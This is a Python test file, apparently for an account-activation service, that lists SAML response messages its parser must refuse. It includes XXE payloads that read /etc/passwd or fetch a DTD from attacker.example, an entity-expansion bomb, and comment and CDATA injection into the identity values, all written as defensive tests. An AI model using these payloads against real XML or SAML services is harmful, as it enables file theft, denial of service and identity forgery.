"""What arrives is no document that may be looked at."""

import base64

from lxml import etree

from accounts.activation.preparse import MAX_BYTES
from accounts.activation.refusals import Reason

from .cases import refused
from .forge import CPR, Forge, one

DS = "http://www.w3.org/2000/09/xmldsig#"


def _raw(message: str) -> bytes:
    return base64.b64decode(message)


def _message(xml: bytes) -> str:
    return base64.b64encode(xml).decode()


def _declared(forge: Forge, declaration: bytes, body: bytes | None = None) -> str:
    return _message(declaration + (body or _raw(forge.write())))


def _plaintext(forge: Forge) -> bytes:
    return etree.tostring(forge.signed_assertion())


@refused(Reason.NO_MESSAGE)
def an_empty_message(forge: Forge) -> str:
    return ""


@refused(Reason.NOT_BASE64)
def letters_that_are_no_base64(forge: Forge) -> str:
    return "<" + forge.write()


@refused(Reason.NOT_BASE64)
def url_safe_base64(forge: Forge) -> str:
    return base64.urlsafe_b64encode(b"\xff\xfe\xfd" + _raw(forge.write())).decode()


@refused(Reason.NOT_BASE64)
def base64_cut_short(forge: Forge) -> str:
    return forge.write().rstrip("=")[:-1] + "="


@refused(Reason.TOO_LARGE)
def a_message_beyond_the_size_bound(forge: Forge) -> str:
    return _message(_raw(forge.write()) + b" " * MAX_BYTES)


@refused(Reason.TOO_LARGE)
def a_message_beyond_what_a_form_may_hold(forge: Forge) -> str:
    return "A" * (3 * 1024 * 1024)


@refused(Reason.NOT_WELL_FORMED)
def a_message_cut_short(forge: Forge) -> str:
    return _message(_raw(forge.write())[:-20])


@refused(Reason.UNKNOWN_ELEMENT)
def html_instead_of_xml(forge: Forge) -> str:
    return _message(b"<html><br></html>")


@refused(Reason.NOT_UTF8)
def another_declared_encoding(forge: Forge) -> str:
    return _declared(forge, b'<?xml version="1.0" encoding="ISO-8859-1"?>')


@refused(Reason.NOT_UTF8)
def utf_16_without_a_mark(forge: Forge) -> str:
    return _message(_raw(forge.write()).decode().encode("utf-16-le"))


@refused(Reason.NOT_UTF8)
def utf_16(forge: Forge) -> str:
    return _message(_raw(forge.write()).decode().encode("utf-16"))


@refused(Reason.DTD)
def a_document_type(forge: Forge) -> str:
    return _declared(forge, b"<!DOCTYPE Response>")


@refused(Reason.DTD)
def an_entity_bomb(forge: Forge) -> str:
    lines = [b'<!ENTITY a0 "aaaaaaaaaa">']
    lines += [b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)]
    body = _raw(forge.write()).replace(b"<samlp:Status>", b"<samlp:Status>&a9;")
    return _declared(forge, b"<!DOCTYPE r [" + b"".join(lines) + b"]>", body)


@refused(Reason.DTD)
def an_external_entity(forge: Forge) -> str:
    body = _raw(forge.write()).replace(b"<samlp:Status>", b"<samlp:Status>&x;")
    return _declared(forge, b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body)


@refused(Reason.DTD)
def an_external_dtd(forge: Forge) -> str:
    return _declared(forge, b'<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">')


@refused(Reason.DTD)
def a_parameter_entity(forge: Forge) -> str:
    return _declared(forge, b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>')


@refused(Reason.DTD)
def a_document_type_inside_the_encryption(forge: Forge) -> str:
    return forge.enclose(b'<!DOCTYPE a [<!ENTITY x "y">]>' + _plaintext(forge))


@refused(Reason.NOT_WELL_FORMED)
def an_entity_that_nobody_declared(forge: Forge) -> str:
    return _message(_raw(forge.write()).replace(b"<samlp:Status>", b"<samlp:Status>&x;"))


@refused(Reason.PROCESSING_INSTRUCTION)
def a_processing_instruction(forge: Forge) -> str:
    return _declared(forge, b'<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>')


@refused(Reason.COMMENT)
def a_comment_in_the_message(forge: Forge) -> str:
    return forge.write(outside=lambda response: response.append(etree.Comment("x")))


@refused(Reason.COMMENT)
def a_comment_in_the_name_id(forge: Forge) -> str:
    def inject(assertion: etree._Element) -> None:
        name_id = one(assertion, "saml:NameID")
        name_id.text, rest = (name_id.text or "")[:-4], (name_id.text or "")[-4:]
        comment = etree.Comment("x")
        comment.tail = rest
        name_id.append(comment)

    return forge.write(after=inject)


@refused(Reason.COMMENT)
def a_comment_in_the_cpr_value(forge: Forge) -> str:
    plaintext = _plaintext(forge)
    return forge.enclose(plaintext.replace(CPR.encode(), CPR[:6].encode() + b"<!---->" + CPR[6:].encode()))


@refused(Reason.CDATA)
def a_cdata_section_in_the_cpr_value(forge: Forge) -> str:
    plaintext = _plaintext(forge)
    return forge.enclose(plaintext.replace(CPR.encode(), b"<![CDATA[" + CPR.encode() + b"]]>"))


@refused(Reason.TOO_DEEP)
def elements_nested_too_deep(forge: Forge) -> str:
    def dig(response: etree._Element) -> None:
        for _ in range(30):
            response = etree.SubElement(response, response.tag)

    return forge.write(outside=dig)


@refused(Reason.TOO_MANY_ELEMENTS)
def too_many_elements(forge: Forge) -> str:
    def fill(response: etree._Element) -> None:
        for _ in range(600):
            etree.SubElement(response, "{urn:oasis:names:tc:SAML:2.0:protocol}StatusDetail")

    return forge.write(outside=fill)


@refused(Reason.TOO_MANY_ATTRIBUTES)
def too_many_attributes(forge: Forge) -> str:
    return forge.write(outside=lambda response: response.attrib.update({f"a{i}": "" for i in range(30)}))


@refused(Reason.TOO_MANY_ATTRIBUTES)
def too_many_namespaces(forge: Forge) -> str:
    declarations = b" ".join(b'xmlns:n%d="urn:x:%d"' % (i, i) for i in range(200))
    return _message(_raw(forge.write()).replace(b"<samlp:Response ", b"<samlp:Response " + declarations + b" "))


@refused(Reason.UNKNOWN_ELEMENT)
def an_element_of_another_language(forge: Forge) -> str:
    return forge.write(outside=lambda response: etree.SubElement(response, "{http://www.w3.org/1999/xhtml}script"))


@refused(Reason.DUPLICATE_ID)
def an_identifier_that_stands_twice(forge: Forge) -> str:
    def again(assertion: etree._Element) -> None:
        one(assertion, "saml:Subject").set("ID", assertion.get("ID", ""))

    return forge.write(after=again)
